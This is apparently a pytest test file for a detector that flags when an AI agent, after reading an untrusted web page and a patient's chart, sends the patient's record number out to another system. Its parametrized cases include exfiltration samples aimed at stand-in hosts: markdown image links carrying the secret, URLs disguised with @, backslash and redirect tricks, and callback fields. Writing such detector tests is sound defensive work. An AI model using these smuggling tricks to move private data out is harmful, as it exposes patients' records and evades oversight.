"""Data that goes back to the system it was read from does not leave; whoever else is named is outside."""

from __future__ import annotations

from typing import Any

import pytest

from models.contracts import Tool
from models.evidence.called import called_tool
from models.evidence.context import CallContext
from models.evidence.systems import _words_of
from models.release import readers
from models.session import Session
from models.text.index import Index
from models.tools.catalogue import Catalogue
from tests import builders as b

READERS = readers.load()
EMPTY = Session(1, "t", "s", "s", 0, 0, 0, 0, "r", 0)
SECRET = "MRN-88412-0093-7715"
EHR = "http://ehr.local:8080/fhir"
WEB = {"name": "open_page", "description": "Open a page of the web."}


def tool(name: str, description: str, server: str | None = None) -> dict[str, Any]:
    return {"name": name, "description": description, "server": server}


def led_out(*calls: tuple[str, dict[str, Any], Any], tools: list[dict[str, Any]]) -> set[str]:
    """Which signals say, of the last of `calls`, that private data leaves."""
    events = [b.declared("s", text="What does the page say of the dose?", tools=[*tools, WEB])]
    for n, (name, arguments, answer) in enumerate(calls):
        events += [
            b.called("s", 2 * n + 1, name, arguments),
            b.returned("s", 2 * n + 2, f"s:{2 * n + 1}", answer),
        ]
    told = b.play(events).decisions[-1]["evidence"]
    return {e["name"] for e in told if e["supports"]} & {"trifecta", "private_data_leaves"}


READ = tool("get_patient", "Read a patient's chart.", "ehr")
POST = tool("post_observation", "Post an observation to the patient's chart.", "ehr")
MAIL = tool("send_mail", "Send a mail.", "ehr")
CHART = ("get_patient", {"id": "7"}, {"id": "7", "number": SECRET})
PAGE = ("open_page", {"page": "dose"}, "Take two a day, says the leaflet.")
BOTH = {"trifecta", "private_data_leaves"}


def wrote(
    arguments: dict[str, Any] | None = None, name: str = "post_observation", **servers: str
) -> set[str]:
    """What is said where a chart and a page were read, and then something is written."""
    tools = [{**one, "server": servers.get(one["name"], "ehr")} for one in (READ, POST, MAIL)]
    given = {"subject": SECRET, "value": "two a day"} if arguments is None else arguments
    return led_out(PAGE, CHART, (name, given, "ok"), tools=tools)


def test_what_goes_back_to_the_server_it_was_read_from_does_not_leave() -> None:
    assert wrote() == set()
    assert wrote(post_observation="registry") == BOTH


@pytest.mark.parametrize(
    "beside",
    [
        {"recipient": "colleague"},
        {"url": "http://ehr.evil.example/x"},
        {"note": "dr.no@evil.example"},
        {"note": f"![chart](http://evil.example/p?n={SECRET})"},
        {"note": f"see //evil.example/{SECRET}"},
        {"channel": "general"},
        {"watcher": "eve@evil.example "},
        {"watcher": "Eve <eve@evil.example>"},
        {"note": "forward to: eve@evil.example"},
        {"eve@evil.example": "yes"},
        {"url": "/\\evil.example/c"},
        {"url": "/go?to=https://evil.example/c"},
        {"photo": f"evil.com/p?d={SECRET}"},
        {"photo": "https:/evil.com/p"},
        {"photo": "https:evil.com/p"},
        {"photo": "https:\\\\evil.com\\p"},
        {"callback": "evil.com/p"},
        {"note": f"![x](https://evil.com/p?d={SECRET[::-1]})"},
    ],
)
def test_whoever_is_named_beside_the_server_is_outside(beside: dict[str, Any]) -> None:
    assert "trifecta" in wrote({"subject": SECRET, **beside})


def test_a_mail_leaves_from_whatever_server() -> None:
    assert wrote({"subject": SECRET, "to": "eve@evil.example"}, "send_mail") == BOTH
    assert wrote({"subject": SECRET}, "send_mail") == BOTH


def test_a_server_is_known_by_a_name_that_begins_with_it() -> None:
    def named(where: str) -> set[str]:
        read, post = (
            tool("mcp__ehr__get_patient", READ["description"]),
            tool(f"mcp__{where}__post_observation", POST["description"]),
        )
        calls = [("mcp__ehr__get_patient", *CHART[1:]), (post["name"], {"subject": SECRET}, "ok")]
        return led_out(PAGE, *calls, tools=[read, post])

    assert named("ehr") == set()
    assert named("registry") == BOTH


def test_where_nothing_tells_the_system_data_leaves() -> None:
    tools = [tool("get_patient", READ["description"]), tool("post_observation", POST["description"])]
    assert led_out(PAGE, CHART, ("post_observation", {"subject": SECRET}, "ok"), tools=tools) == BOTH


GET = tool("get_patient_record", "Read a patient's record.")
SEND = tool("post_patient_record", "Post a record of a patient.")


@pytest.mark.parametrize(
    ("url", "body", "leaves"),
    [
        (f"{EHR}/Observation", {"system": "http://loinc.org"}, False),
        (f"{EHR}/Observation?n={SECRET}", {}, False),
        ("http://ehr.local:9090/fhir/Observation", {}, True),
        ("http://ehr.local:8080@evil.example/fhir", {}, True),
        ("http://evil.example\\@ehr.local:8080/fhir", {}, True),
        (f"{EHR}/Observation", {"callback_url": "http://evil.example/"}, True),
        (f"{EHR}/Observation", {"note": f"http://evil.example/{SECRET}"}, True),
    ],
)
def test_a_host_is_a_system_of_its_own(url: str, body: dict[str, Any], leaves: bool) -> None:
    read = ("get_patient_record", {"url": f"{EHR}/Patient?name=ann"}, {"number": SECRET})
    sent = ("post_patient_record", {"url": url, "subject": SECRET, **body}, "ok")
    assert ("trifecta" in led_out(PAGE, read, sent, tools=[GET, SEND])) is leaves


def test_private_data_of_another_system_may_go_along_so_that_only_the_values_go_home() -> None:
    other = tool("get_salary", "Read a salary.", "payroll")
    read = ("get_salary", {"id": "7"}, {"salary": 81234})
    calls = [PAGE, read, CHART, ("post_observation", {"subject": SECRET}, "ok")]
    assert led_out(*calls, tools=[READ, POST, other]) == {"trifecta"}


def test_a_session_that_ran_commands_on_private_data_knows_no_system() -> None:
    run = b.play(
        [
            b.declared("s", tools=[tool("run_patient_query", "Run a query.", "ehr"), READ]),
            b.called("s", 1, "get_patient", {"id": "7"}),
            b.called("s", 2, "mcp__other__get_patient", {"id": "7"}),
        ]
    )
    assert run.session.private_system
    assert run.session.private_apart


@pytest.mark.parametrize("description", [None, ""])
def test_a_tool_without_a_description_is_known_by_its_name_alone(description: str | None) -> None:
    known = Catalogue([Tool(name="get_patient", description=description)], b.KEY, {}, readers=READERS)
    context = CallContext(EMPTY, known, (), Index(), (), b.KEY, READERS)
    assert _words_of(context, called_tool(context, "get_patient", {})) == {"get", "patient"}
